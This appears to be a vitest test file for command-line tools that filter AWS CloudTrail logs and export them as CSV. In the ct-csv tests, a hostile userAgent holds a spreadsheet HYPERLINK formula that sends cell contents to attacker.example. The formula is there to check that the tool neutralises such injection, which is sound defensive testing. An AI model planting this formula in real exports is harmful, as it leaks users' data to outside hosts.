// The bins as a user runs them: real `sh -c` pipes over the corpus and the bundled sample.
import { describe, expect, test } from 'vitest';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { absent, lines, needs, ROOT, SAMPLE, serve, sh, tempDir } from '../helpers';

describe('the seed cases over the corpus', () => {
  test('errorCode contains Denied, straight from LookupEvents items with no explode step', async () => {
    const r = await sh(`ct-where errorCode~Denied < converted/lookup-events.ndjson | ct-csv -f errorCode --no-header | sort -u`);
    expect(lines(r.stdout)).toEqual(['AccessDenied', 'VpceAccessDenied']);
    expect(r.code).toBe(0);
  });

  test('events from one source address', async () => {
    const r = await sh(`ct-where sourceIPAddress=1.2.3.4 < converted/lookup-events.ndjson | ct-csv -f sourceIPAddress --no-header | sort -u`);
    expect(lines(r.stdout)).toEqual(['1.2.3.4']);
  });

  test('user name AND source address, as one expression or as -e parts', async () => {
    for (const filter of ["'userIdentity.userName=tester and sourceIPAddress=111.111.111.111'", '-e userIdentity.userName=tester -e sourceIPAddress=111.111.111.111']) {
      const r = await sh(`ct-where ${filter} converted/records.ndjson | ct-csv -f user,sourceIPAddress --no-header | sort -u`);
      // One of the matches is an assumed-role session (Panther's test record): its user is role/session.
      expect(lines(r.stdout), filter).toEqual(['okta/tester@domain.tld,111.111.111.111', 'tester,111.111.111.111']);
    }
  });

  test('failed console logins, including those with no errorCode', async () => {
    const r = await sh(`ct-where 'eventName=ConsoleLogin and responseElements.ConsoleLogin=Failure' < converted/lookup-events.ndjson | ct-csv -f errorCode,errorMessage --no-header`);
    expect(lines(r.stdout)).toHaveLength(15);
    expect(r.stdout).toContain(',Failed authentication');
  });

  test('failed SwitchRole: none in the corpus, and the sample has them', async () => {
    const expr = "'eventName=SwitchRole and responseElements.SwitchRole=Failure'";
    expect((await sh(`ct-where -c ${expr} < converted/lookup-events.ndjson`)).stdout).toBe('0\n');
    const r = await sh(`ct-where ${expr} -- ${SAMPLE} | ct-csv -f eventName,responseElements.SwitchRole --no-header | sort -u`);
    expect(lines(r.stdout)).toEqual(['SwitchRole,Failure']);
  });
});

describe('ct-where', () => {
  test('EXPRESSION FILE... as grep and jq take them: the first argument is the expression, the rest are inputs', async () => {
    const r = await sh('ct-where -c errorCode~Denied converted/lookup-events.ndjson converted/records.ndjson');
    const each = await sh('ct-where -c errorCode~Denied -- converted/lookup-events.ndjson; ct-where -c errorCode~Denied -i converted/records.ndjson');
    expect(Number(r.stdout)).toBe(lines(each.stdout).map(Number).reduce((a, b) => a + b));
    expect(Number(r.stdout)).toBeGreaterThan(0);
  });

  test.each([
    ["ct-where errorCode~Denied and readOnly=false", "ct-where: 'and' is no file, and looks like part of an expression: quote the whole expression as one argument (ct-where 'errorCode~Denied and readOnly=false'), or give parts with -e"],
    ["ct-where userIdentity.userName=alice sourceIPAddress=198.51.100.7", "ct-where: 'sourceIPAddress=198.51.100.7' is no file, and looks like part of an expression: quote the whole expression as one argument (ct-where 'userIdentity.userName=alice and sourceIPAddress=198.51.100.7'), or give parts with -e"],
  ])('%s: says to quote the whole expression, exit 2', async (command, message) => {
    const r = await sh(`${command} < /dev/null`);
    expect(lines(r.stderr)).toEqual([message]);
    expect(r.code).toBe(2);
  });

  test('writes matching NDJSON lines byte for byte', async () => {
    const input = '{"eventName":"A",  "x":1}\n{"eventName":"B"}\n';
    expect((await sh('ct-where eventName=A', { input })).stdout).toBe('{"eventName":"A",  "x":1}\n');
  });

  test('writes events from a JSON document as compact lines', async () => {
    const input = JSON.stringify({ Records: [{ eventName: 'A' }, { eventName: 'B' }] }, null, 2);
    expect((await sh('ct-where eventName=B', { input })).stdout).toBe('{"eventName":"B"}\n');
  });

  test('-v inverts and -c counts', async () => {
    const input = '{"eventName":"A"}\n{"eventName":"B"}\n{"eventName":"C"}\n';
    expect((await sh('ct-where -v eventName=A', { input })).stdout).toBe('{"eventName":"B"}\n{"eventName":"C"}\n');
    expect((await sh('ct-where -c eventName~[AB]', { input })).stdout).toBe('2\n');
  });

  test('reports a bad line as file:line, keeps going, and exits 1', async () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, 'e.ndjson'), '{"eventName":"A"}\n{"eventName":"A", oops}\n{"eventName":"A"}\n{"eventName":"B", "x": [1,\n');
    const r = await sh('ct-where eventName=A -- e.ndjson', { cwd: dir });
    expect(lines(r.stdout)).toHaveLength(2);
    expect(lines(r.stderr)).toHaveLength(2);
    expect(lines(r.stderr)[0]).toMatch(/^ct-where: e\.ndjson:2: invalid JSON: /);
    expect(lines(r.stderr)[1]).toMatch(/^ct-where: e\.ndjson:4: invalid JSON: /);
    expect(r.code).toBe(1);
  });

  test('--strict stops at the first non-event in a trail file, after the events before it', async () => {
    const doc = JSON.stringify({ Records: [{ eventName: 'A' }, { eventName: 'B' }, 3, { eventName: 'C' }] });
    const r = await sh('ct-where --strict eventName~.', { input: doc });
    expect(r.stdout).toBe('{"eventName":"A"}\n{"eventName":"B"}\n');
    expect(lines(r.stderr)[0]).toBe('ct-where: stdin: Records[2]: not an event: expected a JSON object');
    expect(r.code).toBe(1);
  });

  test('reads a named pipe given as input', async () => {
    const dir = tempDir();
    const r = await sh(`mkfifo ${dir}/fifo; (cat converted/lookup-events.ndjson > ${dir}/fifo &); ct-where -c errorCode~Denied -i ${dir}/fifo`);
    const direct = await sh('ct-where -c errorCode~Denied < converted/lookup-events.ndjson');
    expect(Number(r.stdout)).toBeGreaterThan(0);
    expect(r.stdout).toBe(direct.stdout);
  });

  test('--strict stops at the first bad line', async () => {
    const r = await sh('ct-where --strict eventName=A', { input: '{"eventName":"A"}\n{"eventName":"A" nope}\n{"eventName":"A"}\n' });
    expect(r.stdout).toBe('{"eventName":"A"}\n');
    expect(r.stderr).toContain('stdin:2: invalid JSON');
    expect(r.code).toBe(1);
  });

  test('reports a malformed CloudTrailEvent like a bad line', async () => {
    const input = '{"EventId":"1","CloudTrailEvent":"{not json"}\n';
    const r = await sh("ct-where 'errorCode exists'", { input });
    expect(r.stderr).toMatch(/^ct-where: stdin:1: CloudTrailEvent is not valid JSON/);
    expect(r.code).toBe(1);
  });

  test('shows a syntax error with a caret under the position and exits 2', async () => {
    const r = await sh(`ct-where 'eventName=A and (errorCode~x'`);
    expect(r.stderr).toBe(
      `ct-where: expression error at position 29: expected ')'\n  eventName=A and (errorCode~x\n  ${' '.repeat(28)}^\n`,
    );
    expect(r.code).toBe(2);
  });

  test.each([
    ['tabs stay tabs', 'eventName\t=\tx and and', 'position 19', 'eventName\t=\tx and and', '         \t \t      ^'],
    ['wide characters take two columns', 'userName=日本語 and and', 'position 18', 'userName=日本語 and and', ' '.repeat(20) + '^'],
    ['a combining mark takes none', 'userName=e\u0301 and and', 'position 17', 'userName=e\u0301 and and', ' '.repeat(15) + '^'],
    ['an escaped control character takes its escape', 'a=\x1b[31m and and', 'position 13', 'a=\\x1b[31m and and', ' '.repeat(15) + '^'],
    ['the line at fault of several', 'a=1\nand and', 'line 2, column 5', 'and and', '    ^'],
    ['a trailing backslash: at the end, not past it', 'eventName in (a,\\', 'position 18', 'eventName in (a,\\', ' '.repeat(17) + '^'],
  ])('the caret stands under the fault as a terminal shows the line: %s', async (_, expression, where, shown, caret) => {
    const r = await sh(`ct-where -c '${expression.replace(/'/g, "'\\''")}' < /dev/null`);
    expect(r.stderr).toMatch(new RegExp(`^ct-where: expression error at ${where}: `));
    expect(r.stderr.split('\n').slice(1, 3)).toEqual([`  ${shown}`, `  ${caret}`]);
    expect(r.code).toBe(2);
  });

  test('knows the fields real records have: resources[].ARNPrefix (S3 data events on a prefix)', async () => {
    const input = '{"eventName":"ListObjects","resources":[{"type":"AWS::S3::Object","ARNPrefix":"arn:aws:s3:::logs/2024/"}]}\n';
    const r = await sh("ct-where 'resources[].ARNPrefix ^= arn:aws:s3:::logs/'", { input });
    expect(r.stderr).toBe('');
    expect(r.stdout).toBe(input);
  });

  test('warns about an unknown field name and suggests the right one', async () => {
    const r = await sh('ct-where errorcode~Denied < converted/records.ndjson');
    expect(r.stderr).toBe("ct-where: warning: no CloudTrail event has a field 'errorcode'; did you mean 'errorCode'?\n");
    expect(r.code).toBe(0);
  });

  test('an unknown option is a usage error with exit 2', async () => {
    const r = await sh('ct-where --bogus x=1');
    expect(r.stderr).toContain('ct-where: unknown option --bogus');
    expect(r.code).toBe(2);
  });

  test.each([
    ['ct-where readOnly=true', '{"eventName":"A","readOnly":true}'],
    ['ct-explode', '{"eventName":"A","readOnly":true}'],
    ['ct-csv -f eventName --no-header', 'A'],
  ])('%s | head -1 exits quietly and stops reading an endless input', async (command, first) => {
    const line = '{"eventName":"A","readOnly":true}';
    const r = await sh(`yes '${line}' | { ${command}; echo "status=$?" >&2; } | head -1`);
    expect(r.stdout).toBe(`${first}\n`);
    expect(r.stderr).toBe('status=0\n');
  }, 20000);
});

describe('ct-explode', () => {
  test.each(['errorCode~Denied', 'readOnly=false and sourceIPAddress exists', 'userIdentity.type=Root'])(
    'filtering before or after it gives the same records: %s',
    async (expression) => {
      const first = await sh(`ct-where '${expression}' < converted/lookup-events.ndjson | ct-explode`);
      const after = await sh(`ct-explode < converted/lookup-events.ndjson | ct-where '${expression}'`);
      expect(lines(first.stdout).length).toBeGreaterThan(0);
      expect(first.stdout).toBe(after.stdout);
    },
  );

  test.skipIf(absent('jq'))(`turns LookupEvents items into their records and passes records through ${needs('jq')}`, async () => {
    const r = await sh('ct-explode converted/lookup-events.ndjson | jq -cS . | sort > /tmp/ct-x1; jq -cS . converted/records.ndjson | sort | cmp - /tmp/ct-x1 && echo same');
    expect(r.stdout).toBe('same\n');
  });

  test.skipIf(absent('jq'))(`reads AWS CLI output with numeric EventTime and keeps lookup fields on request ${needs('jq')}`, async () => {
    const r = await sh('ct-explode --keep-lookup aws-cloudtrail-user-guide/view-cloudtrail-events-cli.L57.json | jq -c "[.eventName, .Username]"');
    expect(r.stdout).toBe('["ConsoleLogin","root"]\n');
    expect(r.code).toBe(0);
  });

  test.skipIf(absent('jq'))(`reads Insights events that lookup-events printed as plain records ${needs('jq')}`, async () => {
    const r = await sh('ct-explode aws-cloudtrail-user-guide/view-insights-events-cli.L56.json | jq -r .eventType | sort -u');
    expect(r.stdout).toBe('AwsCloudTrailInsight\n');
  });

  test('reports an item without CloudTrailEvent and exits 1', async () => {
    const r = await sh('ct-explode', { input: '{"EventId":"x","EventName":"A"}\n{"eventName":"B"}\n' });
    expect(r.stdout).toBe('{"eventName":"B"}\n');
    expect(r.stderr).toBe('ct-explode: stdin:1: LookupEvents item has no CloudTrailEvent\n');
    expect(r.code).toBe(1);
  });
});

describe('ct-csv', () => {
  const hostile = { eventName: 'A', userAgent: '=HYPERLINK("http://x.example","y")', errorMessage: '+1', requestParameters: { a: [1, 2] } };

  test('neutralises formulas by default and keeps them with --no-escape-formulas', async () => {
    const input = `${JSON.stringify(hostile)}\n`;
    const safe = await sh('ct-csv -f userAgent,errorMessage --no-header', { input });
    expect(safe.stdout).toBe(`"'=HYPERLINK(""http://x.example"",""y"")",'+1\n`);
    const raw = await sh('ct-csv -f userAgent --no-header --no-escape-formulas', { input });
    expect(raw.stdout).toBe('"=HYPERLINK(""http://x.example"",""y"")"\n');
  });

  test('neutralises the hostile userAgent in the sample', async () => {
    const r = await sh(`ct-where 'userAgent^==' -- ${SAMPLE} | ct-csv -f userAgent --no-header | sort -u`);
    expect(lines(r.stdout)).toEqual([`"'=HYPERLINK(""http://attacker.example/x?d=""&A1,""Click for details"")"`]);
  });

  test('--excel writes a BOM and CRLF, and Japanese text survives', async () => {
    const r = await sh('ct-csv --excel -f user,eventName | od -c | head -2', { input: '{"userIdentity":{"userName":"田中"},"eventName":"X"}\n' });
    expect(r.stdout).toMatch(/^0000000 357 273 277/);
    const text = await sh('ct-csv --excel -f user,eventName', { input: '{"userIdentity":{"userName":"田中"},"eventName":"X"}\n' });
    expect(text.stdout).toBe('\uFEFFuser,eventName\r\n田中,X\r\n');
  });

  test('--tsv, --no-header, objects as compact JSON, the default columns', async () => {
    expect((await sh("ct-csv --tsv --no-header -f eventName,requestParameters", { input: `${JSON.stringify(hostile)}\n` })).stdout).toBe(
      'A\t"{""a"":[1,2]}"\n',
    );
    const header = (await sh(`ct-csv < converted/records.ndjson | head -1`)).stdout;
    expect(header).toBe('eventTime,eventSource,eventName,awsRegion,sourceIPAddress,userIdentity.arn,user,errorCode,errorMessage,eventID,readOnly\n');
  });

  test('warns about an unknown field and still writes the column', async () => {
    const r = await sh('ct-csv -f eventName,sourceIpAddress --no-header', { input: '{"eventName":"A","sourceIPAddress":"192.0.2.1"}\n' });
    expect(r.stderr).toBe("ct-csv: warning: no CloudTrail event has a field 'sourceIpAddress'; did you mean 'sourceIPAddress'?\n");
    expect(r.stdout).toBe('A,\n');
    expect(r.code).toBe(0);
  });

  test('--tz renders times in the zone, and an unknown zone is a usage error', async () => {
    const input = '{"eventTime":"2024-07-22T00:00:00Z"}\n{"EventTime":1424476529.0,"CloudTrailEvent":"{}"}\n';
    expect((await sh('ct-csv --tz Asia/Tokyo -f eventTime,EventTime --no-header', { input })).stdout).toBe(
      '2024-07-22T09:00:00+09:00,\n,2015-02-21T08:55:29+09:00\n',
    );
    const bad = await sh('ct-csv --tz Mars/Olympus', { input });
    expect(bad.stderr).toContain("ct-csv: --tz: unknown time zone 'Mars/Olympus'");
    expect(bad.code).toBe(2);
  });

  test('--tz writes valid ISO 8601 for any year and zone: padded and expanded years, whole-minute offsets, Z for UTC', async () => {
    const times = ['0999-06-01T00:00:00Z', '0000-06-01T00:00:00Z', '1880-06-01T00:00:00Z', '2024-07-22T00:00:00Z', '+012024-01-01T00:00:00Z'];
    const input = times.map((t) => JSON.stringify({ eventTime: t })).join('\n');
    const tokyo = await sh('ct-csv --tz Asia/Tokyo -f eventTime --no-header', { input });
    // Tokyo kept local mean time (+09:18:59) until 1888: the offset is rounded, the instant kept.
    expect(lines(tokyo.stdout)).toEqual([
      '0999-06-01T09:19:00+09:19',
      '0000-06-01T09:19:00+09:19',
      '1880-06-01T09:19:00+09:19',
      '2024-07-22T09:00:00+09:00',
      "'+012024-01-01T09:00:00+09:00",
    ]);
    const utc = await sh('ct-csv --tz UTC -f eventTime --no-header', { input: '{"eventTime":"2024-07-22T00:00:00Z"}' });
    expect(utc.stdout).toBe('2024-07-22T00:00:00Z\n');
    for (const line of lines(tokyo.stdout)) {
      const text = line.replace(/^'/, '');
      expect(text).toMatch(/^([+-]\d{6}|\d{4})-\d\d-\d\dT\d\d:\d\d:\d\d(Z|[+-]\d\d:\d\d)$/);
      expect(Date.parse(text)).toBe(Date.parse(times[lines(tokyo.stdout).indexOf(line)]));
    }
  });

  test('--tz on a time no calendar holds reports that event with its place and goes on', async () => {
    const input = ['{"eventTime":"2024-07-22T00:00:00Z","eventName":"A"}', '{"eventTime":1e20,"eventName":"B"}', '{"eventTime":"2024-07-22T01:00:00Z","eventName":"C"}'].join('\n');
    const r = await sh('ct-csv --tz UTC -f eventTime,eventName --no-header', { input });
    expect(r.stdout).toBe('2024-07-22T00:00:00Z,A\n2024-07-22T01:00:00Z,C\n');
    expect(r.stderr).toBe('ct-csv: stdin:2: time out of range: 100000000000000000000 (no calendar date); event skipped\n');
    expect(r.code).toBe(1);
  });
});

describe('every command', () => {
  test.each(['ct-where', 'ct-explode', 'ct-csv', 'ct-catalog', 'ct-fetch', 'ct-serve'])('%s --help shows examples and the exit codes', async (name) => {
    const r = await sh(`${name} --help`);
    expect(r.stdout).toContain('Examples:');
    expect(r.stdout).toContain('Exit status: 0 ok; 1 bad data');
    expect(r.code).toBe(0);
  });

  test.each(['ct-csv', 'ct-where -c eventName=x', 'ct-explode'])('%s: a missing input is reported before any output, and the others are read', async (command) => {
    const r = await sh(`${command} converted/records.ndjson nosuch.json 2>&1 | head -1`);
    expect(r.stdout).toBe(`${command.split(' ')[0]}: nosuch.json: no such file or directory\n`);
  });

  test('ct-serve: a file it cannot read ends it before it serves; a port in use is one line, exit 2', async () => {
    const missing = await sh('ct-serve nosuch.json converted/records.ndjson');
    expect(missing.stdout).toBe('');
    expect(missing.stderr).toBe('ct-serve: cannot read nosuch.json: no such file or directory; nothing served\n');
    expect(missing.code).toBe(1);
    const first = await serve(['--port', '0', '--history-days', '0', 'converted/records.ndjson'].map((a) => (a.endsWith('.ndjson') ? path.join(ROOT, 'test/fixtures/corpus', a) : a)));
    try {
      const port = new URL(first.url).port;
      const busy = await sh(`ct-serve --port ${port} converted/records.ndjson`);
      expect(lines(busy.stderr).at(-1)).toBe(`ct-serve: --port ${port}: already in use; pick another, or --port 0 for any free one`);
      expect(busy.stdout).toBe('');
      expect(busy.code).toBe(2);
    } finally {
      first.stop();
    }
  });

  test('output that cannot be written (a full disk) is one line naming why, exit 1', async () => {
    const dir = tempDir();
    const item = (i: number) => JSON.stringify({ EventId: `e${i}`, CloudTrailEvent: JSON.stringify({ eventID: `e${i}`, pad: 'p'.repeat(900) }) });
    writeFileSync(path.join(dir, 'items.ndjson'), `${Array.from({ length: 3000 }, (_, i) => item(i)).join('\n')}\n`);
    // One small write at the end, and many large ones.
    for (const script of ["echo '{\"eventID\":\"x\"}' | ct-explode > /dev/full", 'ct-explode items.ndjson > /dev/full', 'ct-where EventId~e -- items.ndjson > /dev/full']) {
      const r = await sh(script, { cwd: dir });
      const name = script.includes('ct-where') ? 'ct-where' : 'ct-explode';
      expect(r.stderr, script).toBe(`${name}: could not write to standard output: no space left on device (ENOSPC)\n`);
      expect(r.code, script).toBe(1);
    }
  });

  test('only ct-fetch loads NODE_EXTRA_CA_CERTS: the others make no TLS connection', async () => {
    // Node reads the file at start-up (66 ms here, for a bundle of 140 certificates) and warns
    // if it cannot: the warning shows who still reads it.
    const warned = async (name: string): Promise<boolean> => (await sh(`NODE_EXTRA_CA_CERTS=/nonexistent ${name} --help`)).stderr.includes('extra certs');
    for (const name of ['ct-where', 'ct-explode', 'ct-csv', 'ct-catalog', 'ct-serve']) expect(await warned(name), name).toBe(false);
    expect(await warned('ct-fetch')).toBe(true);
  });

  test('ct-where loads at start-up only what it needs (no yargs, net, tty, zlib, worker threads)', async () => {
    // Start-up is measured by the bench, not timed here; this keeps what it loads from growing.
    const dir = tempDir();
    writeFileSync(
      path.join(dir, 'loaded.js'),
      "process.on('exit', () => require('fs').writeFileSync(process.env.LOADED, JSON.stringify([...process.moduleLoadList, ...Object.keys(require.cache)])));",
    );
    writeFileSync(path.join(dir, 'empty'), '');
    // Input from a file, output into a pipe, errors into a file, as in a shell (the test's own
    // streams are sockets, for which node loads node:net).
    const loadedBy = async (command: string, output: RegExp = /^(0\n)?$/): Promise<string[]> => {
      const r = await sh(`LOADED=${dir}/out.json node -r ${dir}/loaded.js ${ROOT}/dist/bin/${command} < empty 2> err | cat; cat err`, { cwd: dir });
      expect(r.stdout, command).toMatch(output);
      return JSON.parse(readFileSync(path.join(dir, 'out.json'), 'utf8'));
    };
    const loaded = await loadedBy('ct-where.js errorCode~Denied');
    expect(loaded).toContain('NativeModule fs');
    for (const heavy of ['NativeModule net', 'NativeModule tty', 'NativeModule zlib', 'NativeModule worker_threads', 'NativeModule internal/fs/promises']) {
      expect(loaded, heavy).not.toContain(heavy);
    }
    expect(loaded.filter((m) => m.includes('node_modules'))).toEqual([]);
    // Options given plainly do not load yargs either (see cli/plain-args.ts); --help does.
    for (const command of ['ct-where.js -c --region us-east-1 errorCode~Denied', 'ct-csv.js -f eventTime,errorCode --no-header', 'ct-explode.js --start-time 2024-07-01']) {
      expect((await loadedBy(command)).filter((m) => m.includes('yargs')), command).toEqual([]);
    }
    expect((await loadedBy('ct-csv.js --help', /^Usage: ct-csv/)).filter((m) => m.includes('yargs')).length).toBeGreaterThan(0);
  });

  test('npx runs the bins from the project folder', async () => {
    const r = await sh('npx --no-install ct-where -c readOnly=true', { cwd: ROOT, input: '{"readOnly":true}\n{"readOnly":false}\n' });
    expect(r.stdout).toBe('1\n');
  }, 30000);

  test('the demo serves the sample, fetches from it through the pipeline and prints a CSV', async () => {
    const r = await sh('npm run --silent demo', { cwd: ROOT });
    expect(lines(r.stdout)[0]).toBe('eventTime,awsRegion,eventName,user,sourceIPAddress,errorMessage');
    expect(r.stdout).toContain(',ConsoleLogin,');
    expect(r.stdout).toContain(',SwitchRole,');
    expect(lines(r.stdout).length).toBeGreaterThan(1);
    expect(r.code).toBe(0);
  }, 20000);
});
